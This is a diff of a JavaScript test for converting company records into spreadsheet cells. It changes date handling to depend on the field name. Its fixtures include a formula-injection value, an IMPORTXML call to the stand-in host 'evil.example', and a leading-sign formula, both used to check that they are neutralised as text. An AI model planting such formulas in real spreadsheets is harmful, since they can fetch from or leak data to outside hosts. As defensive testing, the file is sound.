@@ -33,10 +33,12 @@ describe("cells of companies", () => {
     ["a number", 1999, 1999],
     ["a fraction", -0.125, -0.125],
     ["a truth", true, true],
-    ["a day", "2024-02-29", serial(2024, 1, 29)],
-    ["a time", "2024-02-29T12:30:00Z", serial(2024, 1, 29, 12, 30)],
-    ["a time of the service's form", "2024-02-29 12:30:00+00:00", serial(2024, 1, 29, 12, 30)],
-    ["no day", "2024-02-30", "2024-02-30"],
+    ["funding_date", "2024-02-29", serial(2024, 1, 29)],
+    ["updated_at", "2024-02-29T12:30:00Z", serial(2024, 1, 29, 12, 30)],
+    ["founded_on", "2024-02-29 12:30:00+00:00", serial(2024, 1, 29, 12, 30)],
+    ["end_date", "2024-02-30", "2024-02-30"],
+    ["name", "2024-02-29", "2024-02-29"],
+    ["a slogan", "2024-02-29 12:30:00", "2024-02-29 12:30:00"],
     ["a link", "https://www.acme.example/about?x=1", "https://www.acme.example/about?x=1"],
     ["a formula", '=IMPORTXML("https://evil.example","//a")', '=IMPORTXML("https://evil.example","//a")'],
     ["a sign before a formula", "+SUM(1,1)", "+SUM(1,1)"],
@@ -56,7 +58,7 @@ describe("cells of companies", () => {
     ["too much", "x".repeat(60_000), "x".repeat(49_999)],
   ];
 
-  test("are numbers, booleans and dates as such, links as text, and everything else harmless text", async () => {
+  test("are numbers, booleans and the dates of date fields as such, links as text, and everything else harmless text", async () => {
     const company = Object.fromEntries(KINDS.map(([kind, given]) => [kind, given]));
     answerWith(() => ({ companies: [{ ...company, id: "1" }], totalPages: 1, totalCompanies: 1 }));
     const { fill, document } = openFillDocument(world);
